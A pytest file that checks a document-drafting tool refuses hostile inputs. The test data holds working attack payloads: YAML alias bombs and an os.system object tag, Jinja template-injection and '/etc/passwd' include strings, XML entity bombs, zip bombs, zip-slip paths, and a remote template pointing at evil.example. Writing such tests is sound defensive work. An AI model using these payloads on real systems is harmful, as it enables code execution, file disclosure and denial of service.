"""Files made to do harm: one clear message with the file, exit code 2, ten seconds, one gigabyte, nothing written.

Each goes through the real command in a process of its own, with its memory limited.
"""

from __future__ import annotations

import os
import shutil
import struct
import subprocess
import sys
from collections.abc import Callable, Mapping
from io import BytesIO
from pathlib import Path
from zipfile import ZIP_BZIP2, ZIP_DEFLATED, ZipFile

import pytest

from drafter.storage import draft_yaml, folders
from tests.builders import draft
from tests.robust.fuzz import CRASHERS
from tests.robust.readers import stands

SECONDS, BYTES = 10.0, 1_000_000_000
SOUND = "drafter: 1\nid: d-1\ncorpus: fourteenth-congress\nlayout: kyoto\nparts:\n- id: a\n  title: A\n  kind: OP\n"
DOCX = (folders.TEMPLATES / "kyoto" / "declaration.docx").read_bytes()

_LIMIT = f"import resource; resource.setrlimit(resource.RLIMIT_AS, ({BYTES}, {BYTES}))\n"
_COMMAND = "import sys\nfrom drafter.__main__ import run\nsys.exit(run(sys.argv[1:]))"


def seconds() -> float:
    """Of the processor, that the commands so far took: a busy machine changes nothing in them."""
    spent = os.times()
    return spent.children_user + spent.children_system


def refused(folder: Path, *arguments: str | Path) -> str:
    """What the command says; it must refuse, in time and in little memory, and write nothing."""
    before = sorted(folder.rglob("*"))
    limit = "" if os.name != "posix" else _LIMIT
    began = seconds()
    run = subprocess.run(
        [sys.executable, "-c", limit + _COMMAND, *map(str, arguments)],
        capture_output=True,
        text=True,
        timeout=60 * SECONDS,
        cwd=folder,
        env={**os.environ, "PYTHONPATH": os.pathsep.join(filter(None, sys.path))},
    )
    assert run.returncode == 2, run.stderr[-2000:]
    assert "Traceback" not in run.stderr
    assert seconds() - began < SECONDS
    assert sorted(folder.rglob("*")) == before
    return run.stderr


YAML: dict[str, tuple[Callable[[], bytes], str]] = {
    "anchors that explode": (
        lambda: (SOUND + "x: &a [x]\n" + "".join(f"x{n}: &b{n} [*a, *a]\n" for n in range(60))).encode(),
        ":9: Anchors and aliases",
    ),
    "a tag that builds an object": (lambda: f"{SOUND}x: !!python/object/apply:os.system [id]\n".encode(), ":9: Tags"),
    "a tag on a key": (lambda: b"!!python/name:os.system drafter: 1\n", ":1: Tags"),
    "100 MB of text": (lambda: SOUND.encode() + b"x: " + b"a" * 100_000_000, "larger than 20 MB"),
    "100 MB of values": (lambda: SOUND.encode() + b"x: [" + b"a," * 50_000_000, "larger than 20 MB"),
    "millions of values": (lambda: SOUND.encode() + b"x: [" + b"a," * 9_000_000 + b"]", "too many values"),
    "millions of keys": (lambda: b"".join(b"k%d: 1\n" % n for n in range(1_500_000)), "too many values"),
    "one long line": (lambda: SOUND.encode() + b"x: '" + b"a " * 9_000_000 + b"'", "`x` is not known here"),
    "depth 10,000 in brackets": (lambda: SOUND.encode() + b"x: " + b"[" * 10_000, ":9: Lists and mappings are nested"),
    "depth 10,000 in braces": (lambda: SOUND.encode() + b"x: " + b"{a: " * 10_000, ":9: Lists and mappings are nested"),
    "depth 10,000 in lines": (
        lambda: SOUND.encode() + b"".join(b" " * n + b"a:\n" for n in range(5_000)),
        "nested too deeply",
    ),
    "depth 10,000 in dashes": (lambda: SOUND.encode() + b"x:\n" + b"- " * 10_000, ":10: Lists and mappings are nested"),
    "invalid UTF-8": (lambda: SOUND.encode() + b"x: \xff\xfe\n", ":9: This is not UTF-8 text"),
    "UTF-16": (lambda: SOUND.encode("utf-16"), "This is not UTF-8 text"),
    "a key twice": (lambda: f"{SOUND}id: d-2\n".encode(), ":9: `id` stands twice"),
    "a NUL byte": (lambda: f"{SOUND}x: \x00\n".encode(), ":9: There is a control character (U+0000)"),
    "an escape sequence": (
        lambda: f"{SOUND}x: \x1b]0;pwned\x07\n".encode(),
        ":9: There is a control character (U+001B)",
    ),
    "a file of NUL bytes": (lambda: b"\0" * 1_000_000, ":1: There is a control character (U+0000)"),
    "a question mark key": (lambda: SOUND.encode() + b"? [a, b]\n: x\n", ":9: A key must be text"),
    "many documents": (lambda: SOUND.encode() + b"---\na: b\n" * 10, ":9: There is more than one document"),
    "a directive": (lambda: b"%YAML 9.9\n---\na: b\n", "This is not valid YAML"),
    "a merge key": (lambda: SOUND.encode() + b"<<: {id: d-2}\n", ":9: `<<` is not known here"),
    "half a million faults": (
        lambda: b"drafter: 1\n" + b"".join(b"k%d: 1\n" % n for n in range(300_000)),
        "is missing",
    ),
    "nothing": (lambda: b"", "This is not a mapping"),
}


@pytest.mark.parametrize("name", YAML)
def test_a_hostile_draft_is_refused(tmp_path: Path, name: str) -> None:
    path = tmp_path / "draft.yaml"
    path.write_bytes(YAML[name][0]())
    said = refused(tmp_path, "coverage", path)
    assert str(path) in said
    assert YAML[name][1] in said
    assert len(said) < 20_000


@pytest.mark.parametrize(
    "name",
    [
        "anchors that explode",
        "depth 10,000 in brackets",
        pytest.param("millions of values", marks=pytest.mark.nightly),  # a draft with as many is read above
        "a NUL byte",
    ],
)
@pytest.mark.parametrize("kind", ["corpus", "about", "layout"])
def test_a_hostile_corpus_about_file_or_layout_is_refused(tmp_path: Path, kind: str, name: str) -> None:
    path = tmp_path / "layout.yaml"
    path.write_bytes(YAML[name][0]())
    annex = folders.CONGRESS / "sources" / "annex-a.txt"
    said = {
        "corpus": lambda: refused(tmp_path, "themes", "--corpus", path),
        "about": lambda: refused(tmp_path, "corpus", "report", "--list", annex, "--about", path),
        "layout": lambda: refused(tmp_path, "new", "draft.yaml", "--layout", tmp_path),
    }[kind]()
    assert "layout.yaml:" in said


PARTIES: dict[str, tuple[str, str]] = {
    "a million members": ("- {code: X, members: [" + "JP, " * 400_000 + "]}\n", "more than 5,000"),
    "members that are nobody": ("- code: X\n  members: [" + ", ".join(f"Frence {n}" for n in range(4_900)) + "]\n", ""),
    "groups in each other": (
        "".join(f"- {{code: G{n}x, members: [G{n + 1}x]}}\n" for n in range(2_400))
        + "- {code: G2400x, members: [/]}\n",
        "there is no such party",
    ),
    "a name without an end": (f"- code: {'X' * 5_000_000}\n", "has at most 60 characters"),
    "a name of brackets": (f"- code: '{'[' * 100_000}'\n", "can't name a party"),
    "a million names": (
        "- {code: X, aliases: [" + ", ".join(f"A{n}" for n in range(400_000)) + "]}\n",
        "more than 5,000",
    ),
}


@pytest.mark.parametrize("name", PARTIES)
def test_a_hostile_file_of_parties_is_refused(tmp_path: Path, name: str) -> None:
    (tmp_path / "draft.yaml").write_text(SOUND, encoding="utf-8")
    (tmp_path / "parties.yaml").write_text(f"drafter-parties: 1\nparties:\n{PARTIES[name][0]}", encoding="utf-8")
    said = refused(tmp_path, "parties", tmp_path / "draft.yaml")
    assert "parties.yaml:" in said
    assert PARTIES[name][1] in said


def lines(text: str, megabytes: float) -> bytes:
    return (text * int(megabytes * 1_000_000 / len(text))).encode()


ANNEXES: dict[str, Callable[[], bytes]] = {
    "100 MB": lambda: b"a" * 100_000_000,
    "one line of brackets": lambda: b"[" * 2_999_000,
    "one line of citations cut in half": lambda: b"[AP 1(" * 99_000,
    "one line of spaces": lambda: b" " * 5_000_000,
    "many headings": lambda: lines("IV. A heading\n\n", 2.9),
    "many lines without a citation": lambda: lines("Member States should act\n", 2.9),
    "many bullets": lambda: lines("\u2022 Train judges [AP 1(a)]\n", 1),
    "many tabs": lambda: lines("\t", 2.9),
    "many cells": lambda: lines("a<p>b\tc [Report, para. 1a]\td\n", 2),
    "NUL bytes": lambda: b"\0" * 1_000,
    "no text": lambda: bytes(range(256)) * 100,
    "nothing": lambda: b"",
}
OTHERWISE = (("--list", "many cells"), ("--list", "many tabs"), ("--matrix", "many bullets"), ("--matrix", "many tabs"))
"""Signs of the other form, which take its reader longest."""


@pytest.mark.parametrize(
    ("form", "name"),
    [
        pytest.param(form, name, marks=[pytest.mark.nightly] if (form, name) in OTHERWISE else [])
        for form in ("--list", "--matrix")
        for name in ANNEXES
    ],
)
def test_a_hostile_annex_is_refused(tmp_path: Path, form: str, name: str) -> None:
    path = tmp_path / "annex.txt"
    path.write_bytes(ANNEXES[name]())
    assert "annex.txt" in refused(tmp_path, "corpus", "build", form, path, "-o", tmp_path / "corpus.yaml")


SENTENCES = {
    "a loop without end": "{% for i in range(10**9) %}x{% endfor %}",
    "a product": "{{ 'a' * 10**10 }}",
    "the interpreter": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "another file": "{% include '/etc/passwd' %}",
    "text that doubles": "{% set a = 'aaaaaaaa' %}" + "{% set a = a ~ a %}" * 60 + "{{ a }}",
    "loops in loops": "".join(f"{{% for x{n} in regions %}}" for n in range(15)) + "x" + "{% endfor %}" * 15,
}


@pytest.mark.parametrize("name", SENTENCES)
def test_a_hostile_sentence_is_refused(tmp_path: Path, name: str) -> None:
    layout = tmp_path / "layout"
    shutil.copytree(folders.TEMPLATES / "kyoto", layout)
    made = tmp_path / "draft.yaml"
    text = draft_yaml.dump(draft()).replace("corpus: invented", "corpus: fourteenth-congress")
    made.write_text(text.replace("layout: kyoto", f"layout: '{layout}'"), encoding="utf-8")
    (layout / "title.j2").write_text(SENTENCES[name], encoding="utf-8")
    assert "title" in refused(tmp_path, "export", made, "-o", tmp_path / "out.docx")


def docx(parts: Mapping[str, bytes], leave: str = "", compression: int = ZIP_DEFLATED) -> bytes:
    """A layout's declaration.docx with one part left out, others changed or added."""
    stream = BytesIO()
    with ZipFile(BytesIO(DOCX)) as old, ZipFile(stream, "w", compression) as new:
        blobs = {**{name: old.read(name) for name in old.namelist()}, **parts}
        for name, blob in blobs.items():
            if name != leave:
                new.writestr(name, blob)
    return stream.getvalue()


def styles(blob: bytes) -> bytes:
    """A declaration.docx with this as its styles."""
    return docx({"word/styles.xml": blob})


ENTITIES = (
    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
    + b"".join(b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 10 if n else b"&a;" * 10) for n in range(12))
    + b"]><w:styles xmlns:w='http://schemas.openxmlformats.org/wordprocessingml/2006/main'>&a11;</w:styles>"
)
REMOTE = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="r1" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    b'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)


def lying_sizes() -> bytes:
    """A package whose directory says that its largest part is small."""
    data = bytearray(styles(b"<a>" + b" " * 30_000_000 + b"</a>"))
    size = struct.pack("<I", 30_000_007)
    while (at := data.find(size)) >= 0:
        data[at : at + 4] = struct.pack("<I", 1_000)
    return bytes(data)


WORD: dict[str, tuple[Callable[[], bytes], str]] = {
    "a zip bomb": (lambda: docx({"word/media/x.png": b"\0" * 300_000_000}), "far larger than it looks"),
    "a bomb of XML": (lambda: styles(b"<a>" + b"<b/>" * 10_000_000 + b"</a>"), "far more text"),
    "sizes that lie": (lying_sizes, "it is damaged"),
    "ten thousand parts": (lambda: docx({f"x{n}": b"" for n in range(10_000)}), "far larger than it looks"),
    "entities that multiply": (lambda: styles(ENTITIES), "entities of its own"),
    "entities in UTF-16": (
        lambda: styles("\ufeff<!DOCTYPE a []><a/>".encode("utf-16-le")),
        "entities of its own",
    ),
    "entities in UTF-7": (
        lambda: styles(b'<?xml version="1.0" encoding="UTF-7"?>+ADw-a/>'),
        "not XML as",
    ),
    "a template on another machine": (lambda: docx({"word/_rels/settings.xml.rels": REMOTE}), "another machine"),
    "a name that climbs out": (lambda: docx({"../../evil.xml": b"<a/>"}), "leads out of it: ../../evil.xml"),
    "an absolute name": (lambda: docx({"/etc/evil.xml": b"<a/>"}), "leads out of it"),
    "macros": (lambda: docx({"word/vbaProject.bin": b"x"}), "holds macros"),
    "no content types": (lambda: docx({}, leave="[Content_Types].xml"), "lacks its part [Content_Types].xml"),
    "no relations": (lambda: docx({}, leave="_rels/.rels"), "lacks its part _rels/.rels"),
    "no main part": (lambda: docx({}, leave="word/document.xml"), "declaration.docx"),
    "packed otherwise": (lambda: docx({}, compression=ZIP_BZIP2), "packed in a way"),
    "cut in half": (lambda: DOCX[: len(DOCX) // 2], "it is damaged"),
    "no zip": (lambda: b"PK\x03\x04 and no more", "it is damaged"),
    "broken XML": (lambda: styles(b"<a><b></a>"), "declaration.docx"),
    "deep XML": (lambda: styles(b"<a>" * 100_000 + b"</a>" * 100_000), "declaration.docx"),
    "other XML": (lambda: styles(b"<a/>"), "declaration.docx"),
    "nothing": (lambda: b"", "it is damaged"),
}


@pytest.mark.parametrize("name", WORD)
def test_a_hostile_word_file_is_refused(tmp_path: Path, name: str) -> None:
    layout = tmp_path / "layout"
    shutil.copytree(folders.TEMPLATES / "kyoto", layout)
    (layout / "declaration.docx").write_bytes(WORD[name][0]())
    made = tmp_path / "draft.yaml"
    text = draft_yaml.dump(draft()).replace("corpus: invented", "corpus: fourteenth-congress")
    made.write_text(text.replace("layout: kyoto", f"layout: '{layout}'"), encoding="utf-8")
    said = refused(tmp_path, "export", made, "-o", tmp_path / "out.docx")
    assert "declaration.docx" in said
    assert WORD[name][1] in said


_GUARDED = ("a bomb of XML", "sizes that lie", "entities in UTF-16", "no main part", "broken XML", "nothing")
"""The guard is the one above; that it stands here too is seen by some, and at night by all."""
_ONLY_READ = ("a template on another machine", "macros", "other XML")
"""What harms nobody where the text is read and the file goes no further."""


@pytest.mark.parametrize(
    "name",
    [
        pytest.param(name, marks=[] if name in _GUARDED else [pytest.mark.nightly])
        for name in WORD
        if name not in _ONLY_READ
    ],
)
def test_a_hostile_word_file_is_not_traced(tmp_path: Path, name: str) -> None:
    path = tmp_path / "declaration.docx"
    path.write_bytes(WORD[name][0]())
    assert "declaration.docx" in refused(tmp_path, "trace", path)


@pytest.mark.parametrize("path", sorted(CRASHERS.glob("*")) if CRASHERS.is_dir() else [], ids=lambda path: path.name)
def test_what_once_broke_a_reader_is_answered(path: Path) -> None:
    stands(path.name.split("-")[0], path.read_bytes())
